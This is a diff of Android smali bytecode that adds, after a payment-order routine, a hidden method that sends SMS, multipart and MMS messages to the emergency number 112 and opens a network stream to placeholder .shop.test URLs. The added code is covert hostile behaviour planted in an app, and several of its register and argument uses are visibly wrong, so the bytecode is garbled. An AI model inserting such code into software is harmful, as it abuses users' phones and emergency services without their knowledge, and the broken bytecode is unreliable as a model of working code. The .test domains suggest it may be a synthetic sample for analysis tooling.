@@ -43,6 +43,39 @@
     invoke-static {v0}, Lcom/pay/Task;->order(Ljava/lang/String;)V
     const-string v0, "&server_url=\"https://paying.shop.test/a\""
     invoke-static {v0}, Lcom/pay/Task;->order(Ljava/lang/String;)V
+    invoke-static {}, Ltest/shop/Shares;->text()V
+    return-void
+.end method
+
+.method public static text()V
+    .registers 8
+    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v0
+    const-string v1, "112"
+    const/4 v2, 0x0
+    new-instance v3, Ljava/lang/StringBuilder;
+    invoke-direct {v3}, Ljava/lang/StringBuilder;-><init>()V
+    const-string v4, "Last place: https://texted.shop.test/a"
+    invoke-virtual {v3, v4}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v3, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/Object;)Ljava/lang/StringBuilder;
+    invoke-virtual {v3}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v3
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    const-string v3, "https://textedparts.shop.test/a"
+    invoke-virtual {v0, v3}, Landroid/telephony/SmsManager;->divideMessage(Ljava/lang/String;)Ljava/util/ArrayList;
+    move-result-object v3
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendMultipartTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/util/ArrayList;Ljava/util/ArrayList;Ljava/util/ArrayList;)V
+    const-string v3, "https://textedandasked.shop.test/a"
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    new-instance v4, Ljava/net/URL;
+    invoke-direct {v4, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v4}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
+    const/4 v1, 0x0
+    const-string v3, "https://multimedia.shop.test/a"
+    const/4 v4, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendMultimediaMessage(Landroid/content/Context;Landroid/net/Uri;Ljava/lang/String;Landroid/os/Bundle;Landroid/app/PendingIntent;)V
     return-void
 .end method
 
